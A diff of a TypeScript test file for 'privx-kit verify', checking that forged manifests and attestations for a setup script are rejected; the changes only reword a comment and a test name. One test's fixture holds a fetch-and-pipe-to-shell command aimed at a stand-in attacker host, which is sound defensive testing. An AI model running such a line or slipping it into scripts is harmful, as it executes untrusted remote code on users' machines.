@@ -1,4 +1,4 @@
-/** Manifest, attestation and `privx-kit verify`, as whoever has to answer for a script would use them. */
+/** Manifest, attestation and `privx-kit verify`, as a person who is responsible for a script uses them. */
 import { assert, describe, it } from "@effect/vitest"
 import { dsse } from "@sigstore/core"
 import * as DateTime from "effect/DateTime"
@@ -112,7 +112,7 @@ describe("the provenance of a setup", () => {
     })
   )
 
-  it.live("is not believed when all of it was forged, with a key of its own", () =>
+  it.live("rejects a set of files that was forged as a whole, with its own key", () =>
     Effect.gen(function* () {
       const { data, manifest, script } = yield* delivered()
       const bytes = Buffer.from("#!/bin/sh\ncurl -s https://evil.example | sh\n")
